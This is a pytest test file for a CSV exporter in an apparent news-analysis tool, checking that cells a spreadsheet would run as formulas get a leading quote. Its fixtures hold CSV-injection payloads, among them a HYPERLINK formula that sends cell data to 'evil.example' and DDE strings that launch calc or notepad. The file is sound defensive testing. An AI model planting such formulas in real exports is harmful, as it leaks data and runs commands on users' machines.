"""CSV exports opened in a spreadsheet must not run hostile article text as formulas, and
must stay exact for pandas/R: by default a text cell a spreadsheet could read as a formula
gets one leading quote (removable by rule), and `spreadsheet_safe: False` writes the cells
exactly as stored."""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path

import pytest

from framedesk.cli import main
from framedesk.core.exchange.csv_export import spreadsheet_cell, write_csv
from framedesk.core.exchange.registry import ExportOptions
from framedesk.core.model import ArticleDraft, Span
from framedesk.core.store import Project
from framedesk.core.store.attributions import Attribution

HOSTILE_TITLE = '=HYPERLINK("http://evil.example/?"&A1,"Click me")'
HOSTILE_TEXT = ("=cmd|' /C calc'!A0 was the headline.\n\n"
                '"@SUM(1+1)*cmd" said -2+3 people; @elonmusk posted +1 and \'quoted\' text.')
RAW = ExportOptions(extra={"spreadsheet_safe": False})


def rows(path: Path) -> list[dict[str, str]]:
    raw = path.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")
    return list(csv.DictReader(io.StringIO(raw.decode("utf-8-sig"), newline="")))


@pytest.fixture
def hostile(project: Project) -> Project:
    (aid, _), (other, _) = project.articles.add_many([
        ArticleDraft(text=HOSTILE_TEXT, title=HOSTILE_TITLE, outlet="+cmd|' /C notepad'!A0",
                     author="-2", url="@evil", published="2024-01-02"),
        ArticleDraft(text="Kyiv talks resume.\n\nNothing odd here.", title="'Tis the talks",
                     outlet="\tTabbed outlet")])
    text = project.articles.get(aid).text
    for word, label in (("@elonmusk", "PERSON"), ("-2+3", "=CARDINAL"), ("+1", "CARDINAL")):
        start = text.index(word)
        project.entities.add_manual(aid, start, start + len(word), label)
    start = text.index("=cmd")
    project.coding.add_cue(aid, start, start + 4, "policy_frames", "security",
                           note="-see memo")
    project.coding.set_frame(aid, "policy_frames", "security", primary=True)
    project.coding.set_tone(aid, "-1")
    project.coding.set_memo(aid, "=1+1 is what the source wrote")
    content = text.index("@SUM")
    cue = text.index("said")
    project.attributions.add(Attribution(aid, cue=Span(cue, cue + 4),
                                         content=Span(content, content + 13),
                                         status="manual"))
    return project


@pytest.mark.parametrize("value, shown", [
    ("=1+1", "'=1+1"), ("+cmd", "'+cmd"), ("-2+3", "'-2+3"), ("@SUM(A1)", "'@SUM(A1)"),
    ("\t=1", "'\t=1"), ("\r=1", "'\r=1"), ("\n=1", "'\n=1"), ("'quoted", "''quoted"),
    ("-", "'-"), ("-2", "-2"), ("+1.5", "+1.5"), ("-3e5", "-3e5"), (".5", ".5"),
    ("Kyiv", "Kyiv"), ("a=b", "a=b"), ("", ""), (None, None)])
def test_cells_a_spreadsheet_would_run_get_a_quote(value: str | None, shown: str | None) -> None:
    assert spreadsheet_cell(value) == shown


def test_default_export_runs_no_formula_in_a_spreadsheet(hostile: Project,
                                                         tmp_path: Path) -> None:
    write_csv(hostile, None, tmp_path / "safe")
    articles = rows(tmp_path / "safe" / "articles.csv")
    annotations = rows(tmp_path / "safe" / "annotations.csv")
    first = articles[0]
    assert first["title"] == "'" + HOSTILE_TITLE
    assert first["outlet"].startswith("'+cmd")
    assert first["author"] == "-2"  # a plain number is shown as a number, not run
    assert first["url"] == "'@evil"
    assert first["memo"] == "'=1+1 is what the source wrote"
    assert first["tone"] == "-1"
    assert first["text"] == "'" + HOSTILE_TEXT
    assert articles[1]["title"] == "''Tis the talks"
    assert articles[1]["outlet"] == "'\tTabbed outlet"
    for row in [*articles, *annotations]:
        for column, value in row.items():
            if value[:1] in ("=", "+", "-", "@", "\t", "\r", "\n") and not re.fullmatch(
                    r"[+-]?\d+(\.\d+)?", value):
                pytest.fail(f"{column} would run as a formula: {value!r}")
    entities = {r["text"]: r["label"] for r in annotations if r["kind"] == "entity"}
    assert entities == {"'@elonmusk": "PERSON", "'-2+3": "'=CARDINAL", "+1": "CARDINAL"}
    (cue,) = [r for r in annotations if r["kind"] == "frame_cue"]
    assert (cue["text"], cue["note"]) == ("'=cmd", "'-see memo")
    (quote,) = [r for r in annotations if r["kind"] == "attribution"]
    assert (quote["cue_text"], quote["content_text"]) == ("said", "'@SUM(1+1)*cmd")


def test_removing_one_leading_quote_gives_back_the_stored_values(hostile: Project,
                                                                 tmp_path: Path) -> None:
    write_csv(hostile, None, tmp_path / "safe")
    write_csv(hostile, None, tmp_path / "raw", RAW)
    for name in ("articles.csv", "annotations.csv"):
        safe, raw = rows(tmp_path / "safe" / name), rows(tmp_path / "raw" / name)
        assert len(safe) == len(raw)
        for safe_row, raw_row in zip(safe, raw):
            undone = {k: v[1:] if v.startswith("'") else v for k, v in safe_row.items()}
            assert undone == raw_row


def test_raw_export_is_exact_for_pandas_and_r(hostile: Project, tmp_path: Path) -> None:
    write_csv(hostile, None, tmp_path / "raw.csv", RAW)
    articles = rows(tmp_path / "raw.csv")
    annotations = rows(tmp_path / "raw.annotations.csv")
    text = articles[0]["text"]
    assert (articles[0]["title"], text) == (HOSTILE_TITLE, HOSTILE_TEXT)
    for r in annotations:
        if r["kind"] in ("entity", "frame_cue") and r["article_id"] == articles[0]["id"]:
            assert text[int(r["start"]):int(r["end"])] == r["text"]
    assert {r["text"] for r in annotations if r["kind"] == "entity"} == {
        "@elonmusk", "-2+3", "+1"}


def test_cli_is_safe_by_default_and_raw_on_request(hostile: Project, tmp_path: Path) -> None:
    path = str(hostile.path)
    hostile.close()
    assert main(["export", path, "--format", "csv", "--out", str(tmp_path / "safe")]) == 0
    assert main(["export", path, "--format", "csv", "--out", str(tmp_path / "raw"),
                 "--no-spreadsheet-safe"]) == 0
    assert rows(tmp_path / "safe" / "articles.csv")[0]["title"] == "'" + HOSTILE_TITLE
    assert rows(tmp_path / "raw" / "articles.csv")[0]["title"] == HOSTILE_TITLE
